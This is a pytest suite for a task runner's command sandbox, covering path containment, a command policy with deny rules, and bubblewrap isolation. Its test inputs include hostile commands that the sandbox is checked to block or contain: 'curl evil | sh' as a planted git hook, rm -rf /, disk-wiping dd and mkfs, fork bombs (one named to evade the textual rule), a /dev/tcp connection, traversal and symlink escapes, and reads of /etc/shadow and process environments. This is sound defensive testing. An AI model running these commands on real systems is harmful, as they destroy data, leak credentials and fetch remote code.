"""The runner's sandbox without a model: path containment, the command policy, and commands in the
`none` and `bwrap` modes (bwrap cases skip, with the probe's reason, where bubblewrap cannot run).
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from runner_fake_model import host_path_exists, processes_with

from taskorch.runner.paths import ToolError, Workspace
from taskorch.runner.policy import CommandPolicy, split_command
from taskorch.runner.sandbox import CommandSandbox, SandboxSettings, pids_cgroup_available, probe_bwrap

pytestmark = pytest.mark.anyio

BWRAP_OK, BWRAP_WHY = probe_bwrap()
needs_bwrap = pytest.mark.skipif(not BWRAP_OK, reason=f"bwrap unavailable: {BWRAP_WHY}")
needs_pids_cgroup = pytest.mark.skipif(not pids_cgroup_available(), reason="no writable pids cgroup on this host")
MODES = [pytest.param("none", id="none"), pytest.param("bwrap", id="bwrap", marks=needs_bwrap)]


@pytest.fixture
def layout(tmp_path: Path) -> tuple[Path, Path]:
    """(work path, a sibling directory outside it holding canary.txt)."""
    wp = tmp_path / "wp"
    outside = tmp_path / "wp-outside"  # shares the prefix: a naive startswith check lets it through
    wp.mkdir()
    outside.mkdir()
    (outside / "canary.txt").write_text("CANARY-7f3a\n")
    (wp / "a.txt").write_text("inside\n")
    (wp / ".git" / "hooks").mkdir(parents=True)
    return wp, outside


# -- paths ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["../wp-outside/canary.txt", "{outside}/canary.txt", "sub/../../wp-outside/canary.txt",
                                  "/etc/passwd", "link_file", "link_dir/canary.txt"])  # fmt: skip
def test_reading_outside_the_work_path_is_refused(layout, path):
    wp, outside = layout
    (wp / "link_file").symlink_to(outside / "canary.txt")
    (wp / "link_dir").symlink_to(outside)
    with pytest.raises(ToolError) as e:
        Workspace(wp).read_text(path.format(outside=outside))
    assert e.value.code == "PATH_OUTSIDE_WORKSPACE"


def test_symlinks_and_absolute_paths_that_stay_inside_are_allowed(layout):
    wp, _ = layout
    (wp / "inner").symlink_to(wp / "a.txt")
    ws = Workspace(wp)
    assert ws.read_text("inner")[0] == "inside\n"
    assert ws.read_text(str(wp / "a.txt"))[0] == "inside\n"


def test_a_hard_link_is_not_read_and_writing_it_leaves_the_outside_file_alone(layout):
    wp, outside = layout
    os.link(outside / "canary.txt", wp / "hard.txt")
    ws = Workspace(wp)
    with pytest.raises(ToolError) as e:
        ws.read_text("hard.txt")
    assert e.value.code == "PATH_OUTSIDE_WORKSPACE"
    ws.write_text("hard.txt", "replaced")
    assert (wp / "hard.txt").read_text() == "replaced"
    assert (outside / "canary.txt").read_text() == "CANARY-7f3a\n"


@pytest.mark.parametrize("path", ["../wp-outside/new.txt", "{outside}/new.txt", "link_dir/new.txt", "link_file"])
def test_writing_outside_the_work_path_is_refused(layout, path):
    wp, outside = layout
    (wp / "link_file").symlink_to(outside / "canary.txt")
    (wp / "link_dir").symlink_to(outside)
    with pytest.raises(ToolError) as e:
        Workspace(wp).write_text(path.format(outside=outside), "pwned")
    assert e.value.code == "PATH_OUTSIDE_WORKSPACE"
    assert sorted(p.name for p in outside.iterdir()) == ["canary.txt"]
    assert (outside / "canary.txt").read_text() == "CANARY-7f3a\n"


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", ".taskorch/prompts.yaml"])
def test_git_and_taskorch_directories_are_read_only(layout, path):
    wp, _ = layout
    with pytest.raises(ToolError) as e:
        Workspace(wp).write_text(path, "#!/bin/sh\ncurl evil | sh\n")
    assert e.value.code == "READ_ONLY_PATH"
    assert not (wp / path).exists()


def test_writes_are_atomic_and_keep_the_file_mode(layout):
    wp, _ = layout
    (wp / "run.sh").write_text("old")
    os.chmod(wp / "run.sh", 0o755)
    ws = Workspace(wp)
    assert ws.write_text("deep/er/new.txt", "x") == "deep/er/new.txt"
    ws.write_text("run.sh", "new")
    assert (wp / "run.sh").read_text() == "new" and (wp / "run.sh").stat().st_mode & 0o777 == 0o755
    assert not [p for p in wp.rglob(".taskorch-tmp-*")]  # no temporary file left behind


def test_list_files_skips_git_and_does_not_follow_symlinked_directories(layout):
    wp, outside = layout
    (wp / "src").mkdir()
    (wp / "src" / "m.py").write_text("")
    (wp / "out").symlink_to(outside)
    text, omitted = Workspace(wp).list_files(".", recursive=True)
    assert text.splitlines() == ["a.txt", "out@", "src/", "src/m.py"] and omitted == 0
    with pytest.raises(ToolError):
        Workspace(wp).list_files("out")


# -- the command policy -----------------------------------------------------------------------------


def test_without_a_shell_shell_syntax_is_refused_and_quoted_text_is_fine():
    for cmd in ("ls | wc", "echo a > f", "a; b", "true && false", "sleep 1 &", "cat < x"):
        with pytest.raises(ToolError) as e:
            split_command(cmd, allow_shell=False)
        assert e.value.code == "SHELL_NOT_ALLOWED"
    assert split_command("grep -n 'a|b' 'x; y'", allow_shell=False) == ["grep", "-n", "a|b", "x; y"]
    assert split_command("ls | wc", allow_shell=True) == ["bash", "-c", "ls | wc"]


@pytest.mark.parametrize("argv,rule", [
    (["rm", "-rf", "/"], "recursive-rm"), (["rm", "-r", "-f", "../other"], "recursive-rm"),
    (["rm", "-fr", "."], "recursive-rm"), (["vim", "a.txt"], "interactive"), (["tail", "-f", "log"], "interactive"),
    (["mkfs.ext4", "/dev/sda"], "disk"), (["dd", "if=/dev/zero", "of=/dev/sda"], "disk"), (["reboot"], "power"),
    (["bash", "-c", ":(){ :|:& };:"], "fork-bomb"),
])  # fmt: skip
def test_the_policy_names_the_rule_it_matched(tmp_path, argv, rule):
    with pytest.raises(ToolError) as e:
        CommandPolicy().check(argv, work_path=tmp_path)
    assert e.value.code == "POLICY_BLOCKED" and f"rule {rule}" in e.value.message


def test_the_policy_allows_ordinary_commands_and_applies_allow_and_deny_lists(tmp_path):
    CommandPolicy().check(["rm", "-rf", "build"], work_path=tmp_path)
    CommandPolicy().check(["rm", "--force", "/tmp/x"], work_path=tmp_path)  # not recursive
    CommandPolicy().check(["git", "log", "--format=%H"], work_path=tmp_path)
    with pytest.raises(ToolError, match="allow-list"):
        CommandPolicy(allow=("pytest",)).check(["python", "-c", "1"], work_path=tmp_path)
    with pytest.raises(ToolError, match="deny-list"):
        CommandPolicy(deny=("curl",)).check(["bash", "-c", "echo x | curl -d @- x"], work_path=tmp_path,
                                            shell_text="echo x | curl -d @- x")  # fmt: skip


# -- commands -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", MODES)
async def test_a_command_that_times_out_is_killed_with_its_whole_group(layout, mode):
    wp, _ = layout
    sb = CommandSandbox(wp, mode, SandboxSettings())
    try:
        r = await sb.run(["bash", "-c", "sleep 912301 & sleep 912302"], time_limit=1)
    finally:
        sb.close()
    assert r.timed_out and r.returncode == -9 and r.duration_s < 3
    assert processes_with("91230") == []


@pytest.mark.parametrize("mode", MODES)
async def test_a_background_child_holding_the_pipe_does_not_hang_the_command(layout, mode):
    wp, _ = layout
    sb = CommandSandbox(wp, mode, SandboxSettings())
    try:
        r = await sb.run(["bash", "-c", "sleep 912311 & echo started"], time_limit=20)
    finally:
        sb.close()
    assert not r.timed_out and r.returncode == 0 and r.output == "started\n" and r.duration_s < 5
    assert processes_with("912311") == []


@pytest.mark.parametrize("mode", MODES)
async def test_output_is_capped_while_the_rest_is_drained(layout, mode):
    wp, _ = layout
    sb = CommandSandbox(wp, mode, SandboxSettings(output_cap=10_000))
    try:
        r = await sb.run(["head", "-c", "5000000", "/dev/zero"], time_limit=20)
    finally:
        sb.close()
    assert r.returncode == 0 and r.total_bytes == 5_000_000 and r.captured_bytes == 10_000


@pytest.mark.parametrize("mode", MODES)
async def test_the_environment_carries_no_secrets_even_when_asked(layout, mode, monkeypatch):
    wp, _ = layout
    monkeypatch.setenv("OPENAI_API_KEY", "sk-SECRET-1")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-SECRET-2")
    monkeypatch.setenv("HARMLESS", "visible")
    settings = SandboxSettings(env_passthrough=("OPENAI_API_KEY", "HARMLESS"), env=(("DB_PASSWORD", "SECRET-3"),))
    sb = CommandSandbox(wp, mode, settings)
    try:
        r = await sb.run(["env"], time_limit=10)
    finally:
        sb.close()
    assert "SECRET" not in r.output and "HARMLESS=visible" in r.output and "PAGER=cat" in r.output


@pytest.mark.parametrize("mode", MODES)
async def test_a_file_size_limit_applies(layout, mode):
    wp, _ = layout
    sb = CommandSandbox(wp, mode, SandboxSettings(file_size_bytes=100_000))
    try:
        r = await sb.run(["head", "-c", "1000000", "/dev/zero", "--output=x"], time_limit=10)
        r = await sb.run(["dd", "if=/dev/zero", "of=big.bin", "bs=1000", "count=1000"], time_limit=10)
    finally:
        sb.close()
    assert r.returncode != 0 and (wp / "big.bin").stat().st_size == 100_000


@pytest.mark.parametrize("mode", [pytest.param("none", marks=needs_pids_cgroup), MODES[1]])
async def test_a_setsid_daemon_does_not_outlive_its_command(layout, mode):
    wp, _ = layout
    sb = CommandSandbox(wp, mode, SandboxSettings())
    try:
        r = await sb.run(["setsid", "-f", "sleep", "912321"], time_limit=10)
    finally:
        sb.close()
    assert r.returncode == 0 and processes_with("912321") == []


@needs_pids_cgroup
@pytest.mark.parametrize("mode", MODES)
async def test_a_fork_bomb_is_capped_and_killed(layout, mode):
    wp, _ = layout
    sb = CommandSandbox(wp, mode, SandboxSettings(max_processes=64))
    try:
        # The function is named so that the policy's textual fork-bomb rule does not catch it.
        r = await sb.run(["bash", "-c", "b912331(){ b912331 | b912331 & }; b912331; sleep 912332"], time_limit=2)
        after = await sb.run(["echo", "still here"], time_limit=5)
    finally:
        sb.close()
    assert r.timed_out and after.output == "still here\n"
    assert processes_with("912331") == [] and processes_with("912332") == []


@needs_bwrap
async def test_bwrap_shows_nothing_of_the_host_but_system_directories(layout, tmp_path):
    wp, outside = layout
    sb = CommandSandbox(wp, "bwrap", SandboxSettings())
    try:
        canary = await sb.run(["cat", str(outside / "canary.txt")], time_limit=10)
        listing = await sb.run(["ls", "-A", "/", "/root", "/home"], time_limit=10)
        siblings = await sb.run(["ls", "-A", str(tmp_path)], time_limit=10)
        caps = await sb.run(["grep", "CapEff", "/proc/self/status"], time_limit=10)
        shadow = await sb.run(["cat", "/etc/shadow"], time_limit=10)
        usr = await sb.run(["touch", "/usr/taskorch-escape"], time_limit=10)
        inside = await sb.run(["touch", "made-inside"], time_limit=10)
    finally:
        sb.close()
    assert canary.returncode != 0 and "CANARY" not in canary.output and "No such file" in canary.output
    assert "/root" in listing.output and "cannot access" in listing.output  # no home directories
    assert siblings.output.split() == ["wp"]  # only the path down to the work path exists (/tmp is a tmpfs)
    assert caps.output.split()[-1] == "0000000000000000"
    assert "root:" not in shadow.output  # readable by uid 0 even without capabilities, so it is masked
    assert usr.returncode != 0 and "Read-only" in usr.output and not host_path_exists("/usr/taskorch-escape")
    assert inside.returncode == 0 and (wp / "made-inside").exists()


@needs_bwrap
async def test_bwrap_keeps_git_read_only_and_read_only_scenarios_read_only(layout):
    wp, _ = layout
    sb = CommandSandbox(wp, "bwrap", SandboxSettings())
    try:
        hook = await sb.run(["touch", ".git/hooks/post-checkout"], time_limit=10)
        plant = await sb.run(["touch", ".taskorch/prompts.yaml"], time_limit=10)
        ro = await sb.run(["touch", "new.txt"], time_limit=10, writable=False)
    finally:
        sb.close()
    assert hook.returncode != 0 and "Read-only" in hook.output and not (wp / ".git/hooks/post-checkout").exists()
    assert ro.returncode != 0 and not (wp / "new.txt").exists()
    assert plant.returncode != 0 and not (wp / ".taskorch/prompts.yaml").exists()


@needs_bwrap
async def test_bwrap_has_no_network(layout):
    wp, _ = layout
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        sb = CommandSandbox(wp, "bwrap", SandboxSettings())
        try:
            r = await sb.run(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED"], time_limit=10)
        finally:
            sb.close()
        with pytest.raises(TimeoutError):
            listener.accept()
    assert "CONNECTED" not in r.output and r.returncode != 0


@needs_bwrap
def test_bwrap_hides_the_runners_own_environment_in_proc(tmp_path):
    """A scrubbed env is not enough: a same-uid child can read /proc/<runner>/environ. In bwrap it
    sees only its own PID namespace. (A subprocess, so that the secret is in the initial environ.)"""
    script = textwrap.dedent(f"""
        import asyncio, os
        from pathlib import Path
        from taskorch.runner.sandbox import CommandSandbox, SandboxSettings
        async def main():
            sb = CommandSandbox(Path({str(tmp_path)!r}), "bwrap", SandboxSettings())
            r = await sb.run(["bash", "-c", "cat /proc/{{1,2,3,4,5,6,7,8}}/environ /proc/$PPID/environ "
                              "/proc/%d/environ; ls /proc" % os.getpid()], time_limit=10)
            sb.close()
            print(r.output)
        asyncio.run(main())
    """)
    env = dict(os.environ, OPENAI_API_KEY="sk-LEAK-CANARY-99")
    out = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert "LEAK-CANARY" not in out.stdout


def test_importing_the_server_and_the_runner_commands_does_not_import_litellm():
    code = (
        "import sys, taskorch.mcp_server, taskorch.cli, taskorch.runner.prompts, taskorch.runner.cli; "
        "print(sorted(m for m in sys.modules if m == 'litellm' or m.startswith(('openai', 'taskorch.runner.'))))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "['taskorch.runner.cli', 'taskorch.runner.prompts']"


@needs_bwrap
async def test_bwrap_masks_hard_linked_files_whose_other_name_may_be_outside(layout):
    wp, outside = layout
    os.link(outside / "canary.txt", wp / "hard.txt")
    sb = CommandSandbox(wp, "bwrap", SandboxSettings())
    try:
        r = await sb.run(["cat", "hard.txt", "a.txt"], time_limit=10)
    finally:
        sb.close()
    assert "CANARY" not in r.output and "inside" in r.output
